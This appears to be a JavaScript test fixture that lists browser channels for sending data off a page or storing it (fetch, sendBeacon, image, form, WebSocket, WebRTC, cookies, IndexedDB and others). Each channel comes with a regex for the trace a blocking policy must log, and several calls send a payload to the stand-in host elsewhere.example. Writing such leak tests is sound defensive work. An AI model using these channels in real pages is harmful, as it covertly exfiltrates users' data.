// One call for each way to send or to store something, and the trace that it must leave. The calls run in the page.

/** @typedef {{ leak: () => unknown, trace: RegExp }} Leak `leak` returns false where the engine lacks the feature */

/** @type {Record<string, Leak>} */
export const LEAKS = {
  fetch: {
    leak: () => void fetch('http://elsewhere.example/').catch(() => {}),
    trace: /^fetch GET http:\/\/elsewhere/,
  },
  'fetch to the own server, with a body': {
    leak: () => void fetch('./icons/', { method: 'POST', body: 'a frame' }).catch(() => {}),
    trace: /^fetch POST \/icons\/$/,
  },
  XMLHttpRequest: {
    leak: () => {
      const request = new XMLHttpRequest();
      request.open('GET', 'http://elsewhere.example/');
    },
    trace: /^XMLHttpRequest GET http:\/\/elsewhere/,
  },
  sendBeacon: {
    leak: () => void navigator.sendBeacon('http://elsewhere.example/', 'a frame'),
    trace: /^sendBeacon http:\/\/elsewhere/,
  },
  image: {
    leak: () => void Object.assign(new Image(), { src: 'http://elsewhere.example/?a-frame' }),
    trace: /^blocked by the policy img-src http:\/\/elsewhere/,
  },
  script: {
    leak: () =>
      document.head.append(Object.assign(document.createElement('script'), { src: 'http://elsewhere.example' })),
    trace: /^blocked by the policy script-src-elem http:\/\/elsewhere/,
  },
  form: {
    leak: () => {
      const form = Object.assign(document.createElement('form'), {
        action: 'http://elsewhere.example/',
        method: 'POST',
      });
      document.body.append(form);
      try {
        form.submit();
      } catch {} // In Firefox, the policy makes it throw.
    },
    trace: /^blocked by the policy form-action http:\/\/elsewhere/,
  },
  WebSocket: {
    leak: () => {
      try {
        new WebSocket('ws://elsewhere.example/');
      } catch {} // The policy blocks it.
    },
    trace: /^WebSocket ws:\/\/elsewhere/,
  },
  EventSource: {
    leak: () => {
      try {
        new EventSource('http://elsewhere.example/');
      } catch {}
    },
    trace: /^EventSource http:\/\/elsewhere/,
  },
  WebTransport: {
    leak: () => {
      if (!('WebTransport' in globalThis)) return false;
      try {
        const transport = new WebTransport('https://elsewhere.example/');
        for (const promise of [transport.ready, transport.closed]) promise.catch(() => {});
      } catch {}
    },
    trace: /^WebTransport https:\/\/elsewhere/,
  },
  WebRTC: {
    leak: () => {
      if (!('RTCPeerConnection' in globalThis)) return false;
      new RTCPeerConnection({ iceServers: [{ urls: 'stun:elsewhere.example' }] }).close();
    },
    trace: /^RTCPeerConnection /,
  },
  'DNS prefetch': {
    leak: () => {
      const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//elsewhere.example' });
      document.head.append(link);
    },
    trace: /^hint <link.*dns-prefetch/,
  },
  cookie: {
    leak: () => {
      // biome-ignore lint/suspicious/noDocumentCookie: this is the call that must be seen.
      document.cookie = 'face=happy';
    },
    trace: /^cookie face=happy$/,
  },
  localStorage: { leak: () => localStorage.setItem('face', 'happy'), trace: /^storage localStorage face$/ },
  sessionStorage: { leak: () => sessionStorage.setItem('face', 'happy'), trace: /^storage sessionStorage face$/ },
  IndexedDB: {
    leak: () => {
      const opening = indexedDB.open('faces');
      opening.onupgradeneeded = () => opening.result.createObjectStore('happy', { autoIncrement: true });
      opening.onsuccess = () => opening.result.transaction('happy', 'readwrite').objectStore('happy').add(1);
    },
    trace: /^IndexedDB faces happy$/,
  },
  'Cache API': {
    leak: async () => (await caches.open('faces')).put('/happy', new Response('a frame')),
    trace: /^cache \/happy$/,
  },
  'file system': {
    leak: () => {
      if (!navigator.storage?.getDirectory) return false;
      navigator.storage.getDirectory().catch(() => {});
    },
    trace: /^file system /,
  },
};
